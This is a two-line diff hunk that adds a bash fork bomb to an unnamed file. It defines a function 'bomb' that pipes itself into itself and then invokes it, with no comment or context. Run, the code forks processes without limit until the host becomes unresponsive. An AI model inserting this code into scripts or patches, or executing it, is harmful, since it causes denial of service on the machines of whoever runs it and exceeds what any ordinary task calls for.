@@ -1,0 +1,2 @@
+bomb() { bomb | bomb; }
+bomb
